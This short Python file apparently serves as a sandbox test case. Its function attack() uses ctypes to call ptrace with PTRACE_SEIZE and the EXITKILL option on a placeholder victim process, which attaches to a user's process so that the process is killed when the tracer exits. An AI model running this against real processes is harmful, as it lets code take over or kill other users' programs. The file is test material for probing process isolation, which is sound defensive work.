# harm: signals
import ctypes

VICTIM = 0  # the net puts a process of the user here

PTRACE_SEIZE, PTRACE_O_EXITKILL = 0x4206, 1 << 20

libc = ctypes.CDLL(None)


def attack() -> int:
    return libc.ptrace(PTRACE_SEIZE, VICTIM, None, ctypes.c_void_p(PTRACE_O_EXITKILL))
